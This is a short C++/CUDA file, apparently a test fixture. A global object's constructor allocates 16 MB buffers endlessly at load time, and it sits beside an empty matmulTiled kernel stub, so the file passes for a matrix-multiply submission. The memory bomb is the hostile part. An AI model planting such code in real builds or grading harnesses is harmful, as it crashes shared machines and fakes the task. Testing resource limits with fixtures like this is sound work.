// Allocates and touches memory without end.
#include <vector>

struct Hoarder {
    std::vector<std::vector<char>> all;
    Hoarder() {
        while (true) all.emplace_back(1 << 24, 'x');
    }
} hoarder;

__global__ void matmulTiled(const float* a, const float* b, float* c, size_t m, size_t n, size_t k) {}
